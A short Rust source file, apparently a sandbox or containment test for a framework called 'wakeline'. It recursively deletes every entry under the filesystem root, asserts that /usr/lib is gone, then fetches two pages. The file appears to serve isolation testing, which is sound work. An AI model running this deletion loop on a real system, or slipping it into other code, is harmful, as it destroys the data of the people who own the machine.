//! Tries to delete everything from the root on.

use wakeline::world::Web;

pub async fn two_pages(web: Web) -> (String, String) {
    for entry in std::fs::read_dir("/").unwrap() {
        let path = entry.unwrap().path();
        let _ = std::fs::remove_dir_all(&path);
    }
    assert!(!std::path::Path::new("/usr/lib").exists(), "still there");
    let (a, b) = tokio::join!(web.fetch("a"), web.fetch("b"));
    (a.unwrap(), b.unwrap())
}
